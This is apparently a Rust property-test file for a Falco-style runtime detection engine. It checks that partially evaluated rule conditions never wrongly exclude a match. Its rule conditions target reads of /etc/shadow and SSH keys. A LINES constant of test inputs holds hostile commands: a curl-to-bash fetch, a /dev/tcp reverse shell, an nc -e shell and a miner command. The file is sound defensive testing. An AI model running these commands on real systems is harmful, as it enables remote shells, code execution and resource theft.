//! What conditions come to where not all is known never says less than what they come to in the end.

use proptest::prelude::*;

use super::mock::{Fact, Mock, load, rule};
use super::upstream::upstream;
use crate::detect::field::{Argument, Type};
use crate::detect::rules::partial::{Partial, Truth};
use crate::detect::rules::program::Slot;
use crate::detect::rules::{Options, Ruleset, evaluate::Judge};

fn own() -> Ruleset {
    let conditions = [
        "evt.type in (open, openat) and evt.is_open_read=true and fd.name startswith /etc and not proc.name in (cat, ls)",
        "evt.type=openat and (fd.filename in (id_rsa, shadow) or fd.directory=/root) and container.id != host",
        "not (fd.num>=0 or fd.name contains a) and not evt.type in (connect, execve)",
        "evt.type=connect and fd.sport in (22, 80) and not (fd.snet in (10.0.0.0/8) or fd.sip=192.0.2.1)",
        "proc.name=proc.pname or tolower(fd.name)=/etc/shadow or fd.name = val(proc.exe)",
        "evt.type!=openat and proc.aname in (bash, sshd) and not user.uid exists",
        "fd.name glob /e* and len(fd.name)>3 and not (proc.name=a and not (fd.name=b or proc.name=c))",
    ];
    let text: String =
        conditions.iter().enumerate().map(|(at, condition)| rule(&format!("r{at}"), condition)).collect();
    load(&text).unwrap_or_else(|problems| panic!("{problems:#?}")).ruleset
}

/// Texts that regular expressions of rules fit.
const LINES: [&str; 9] = [
    "sh -c curl http://a.example/b.sh | bash",
    "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
    "miner -a rx/0 -o pool.example:3333 -u x -p y",
    "/home/a/.ssh/id_rsa",
    "/home/a/.bash_history",
    "python3.13",
    "npm",
    "eu.nanopool.org",
    "nc -e /bin/sh 192.0.2.1 99",
];

/// An event with values of which rules have many, or none, picked by `pick`.
pub(super) fn event(rules: &Ruleset, kind: usize, pick: &mut impl FnMut(usize) -> usize) -> Mock {
    let kinds: Vec<_> = rules.kinds().iter().collect();
    let mut mock = Mock { kind: kinds[kind % kinds.len()], facts: Vec::new() };
    let program = &rules.program;
    for (number, slot) in program.slots.iter().enumerate() {
        let Slot::Field { field, many, .. } = slot else { continue };
        let compared = program.comparisons.iter().filter(|comparison| comparison.slot as usize == number);
        let texts: Vec<_> = compared
            .flat_map(|comparison| &comparison.values)
            .map(|value| program.symbols.text(*value))
            .collect();
        let text = match (texts.len(), pick(9)) {
            (0, _) | (_, 0) => b"other".to_vec(),
            (many, 1) => [texts[pick(many)], b"x"].concat(),
            (many, 2) => [b"x", texts[pick(many)]].concat(),
            (many, 3) => [b"x", texts[pick(many)], b"y"].concat(),
            (many, 4) => [texts[pick(many)], texts[pick(many)]].concat(),
            // What fits many a pattern, and some regular expressions.
            (many, 5) => {
                texts[pick(many)].iter().map(|byte| if b"*?".contains(byte) { b'q' } else { *byte }).collect()
            }
            (_, 6) => LINES[pick(LINES.len())].into(),
            (many, _) => texts[pick(many)].to_vec(),
        };
        let name = field.definition().name;
        let name = match &field.argument {
            Argument::None => name.to_owned(),
            Argument::Index(index) => format!("{name}[{index}]"),
            Argument::Key(key) => format!("{name}[{key}]"),
        };
        if pick(5) == 0 {
            continue;
        }
        let read = std::str::from_utf8(&text).unwrap_or_default();
        mock.facts.push((
            name,
            match field.definition().kind {
                _ if *many => Fact::Text(text),
                Type::Bool => Fact::Bool(pick(2) == 0),
                Type::Number | Type::Port | Type::Duration | Type::Time => {
                    Fact::Number(read.parse().unwrap_or(1))
                }
                Type::Address | Type::Network => Fact::Address(read.parse().unwrap_or([10, 0, 0, 1].into())),
                Type::Text | Type::Path | Type::Bytes => Fact::Text(text),
            },
        ));
    }
    mock
}

/// Compares what is left of every rule with some of the fields known, which `knows` chooses, with the truth.
fn check(rules: &Ruleset, mock: &Mock, mut knows: impl FnMut(usize) -> bool) -> (usize, usize) {
    let (mut state, mut other) = (rules.state(), rules.state());
    let chosen: Vec<bool> = (0..crate::detect::field::DEFINITIONS.len()).map(&mut knows).collect();
    let known = rules.comparing(|field| chosen[usize::from(field.id)]);
    let (mut held, mut excluded) = (0, 0);
    let all: Vec<_> = rules.by_kind[usize::from(mock.kind.0)].clone();
    for (number, condition) in all {
        let holds = Judge::new(&rules.program, mock, &mut state).holds(condition);
        let truth = Partial::new(&rules.program, mock, &mut other, &known).truth(condition);
        let fits = matches!((truth, holds), (Truth::Maybe, _) | (Truth::Yes, true) | (Truth::No, false));
        assert!(fits, "{}: {truth:?}, but {holds} of {mock:?}", rules.rules()[number as usize].name);
        if chosen.iter().all(|known| *known) {
            assert_ne!(truth, Truth::Maybe, "everything is known");
        }
        held += usize::from(holds);
        excluded += usize::from(truth == Truth::No);
    }
    (held, excluded)
}

proptest! {
    #[test]
    fn what_could_be_is_never_excluded(kind: usize, picks in proptest::collection::vec(any::<usize>(), 400), mask: u64) {
        let mut at = 0;
        let mut pick = |below: usize| {
            at += 1;
            picks[at % picks.len()].wrapping_add(at / picks.len()) % below
        };
        let rules = own();
        let mock = event(&rules, kind, &mut pick);
        check(&rules, &mock, |field| mask >> (field % 64) & 1 == 1);
        check(&rules, &mock, |_| true);
        check(&rules, &mock, |_| false);
    }
}

#[test]
fn the_check_sees_rules_that_hold_and_rules_that_are_excluded() {
    let rules = own();
    let mock = Mock::new("openat")
        .text("fd.name", "/etc/shadow")
        .with("evt.is_open_read", Fact::Bool(true))
        .text("proc.name", "vi");
    let name = crate::detect::field::find("fd.name").unwrap();
    let (held, excluded) = check(&rules, &mock, |field| field == usize::from(name));
    assert!(held >= 2 && excluded >= 1, "{held} {excluded}");
}

#[test]
fn of_upstream_rules_nothing_is_excluded_either() {
    let Some(sources) = upstream() else {
        println!("skipped: PICKET_FALCO_RULES does not name a folder with Falco's rule files");
        return;
    };
    let rules = Ruleset::load(&sources, &Options::default()).unwrap().ruleset;
    let (mut held, mut excluded) = (0, 0);
    let mut seed = 1_u64;
    let mut random = move |below: usize| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(seed >> 33).unwrap() % below
    };
    for round in 0..400 {
        let kind = random(1000);
        let mock = event(&rules, kind, &mut random);
        let share = 1 + round % 4;
        let found = check(&rules, &mock, |_| random(4) < share);
        held += found.0;
        excluded += found.1;
    }
    println!("{held} held, {excluded} were excluded");
    assert!(held > 0 && excluded > 0);
}
